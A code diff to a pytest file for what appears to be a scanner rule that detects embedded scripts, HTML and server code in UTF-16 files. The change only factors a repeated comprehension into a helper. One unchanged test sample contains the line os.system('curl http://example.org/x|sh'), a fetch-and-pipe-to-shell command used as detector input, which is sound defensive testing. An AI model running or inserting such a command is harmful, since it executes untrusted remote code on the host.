@@ -5,6 +5,7 @@ from __future__ import annotations
 import random
 import struct
 import zlib
+from collections.abc import Sequence
 from typing import TYPE_CHECKING
 
 import pytest
@@ -69,6 +70,14 @@ def files_with(text: str, order: str) -> dict[str, bytes]:
     }
 
 
+def files_with_each(texts: Sequence[str], order: str) -> dict[str, bytes]:
+    return {
+        f"{number} {name}": content
+        for number, text in enumerate(texts)
+        for name, content in files_with(text, order).items()
+    }
+
+
 @pytest.mark.parametrize("order", ORDERS)
 @pytest.mark.parametrize("kind", KINDS)
 def test_finds_scripts_pages_and_code_of_servers_in_utf_16(fired: Fired, kind: str, order: str) -> None:
@@ -87,11 +96,7 @@ def test_finds_them_among_words_of_other_languages(fired: Fired, order: str) -> 
         "Photo: Łódź 東京 😀 <script>console.log('Привет')</script>",
         "import os  # Привет\nos.system('curl http://example.org/x|sh')\n",
     ]
-    files = {
-        f"{number} {name}": content
-        for number, text in enumerate(texts)
-        for name, content in files_with(text, order).items()
-    }
+    files = files_with_each(texts, order)
     assert fired(RULE, files).keys() == files.keys()
 
 
@@ -107,11 +112,7 @@ def test_is_silent_about_captions_and_prose_in_utf_16(fired: Fired, order: str) 
         '{"5": {"class": "Note 東京", "text": "say \\"<script>x()</script> <html><body>a</body></html>\\""}}',
         "masterpiece, best quality, <lora:detail:0.5>, (script:1.2)\nNegative prompt: body\nSteps: 20",
     ]
-    files = {
-        f"{number} {name}": content
-        for number, text in enumerate(texts)
-        for name, content in files_with(text, order).items()
-    }
+    files = files_with_each(texts, order)
     assert fired(RULE, files) == {}
 
 
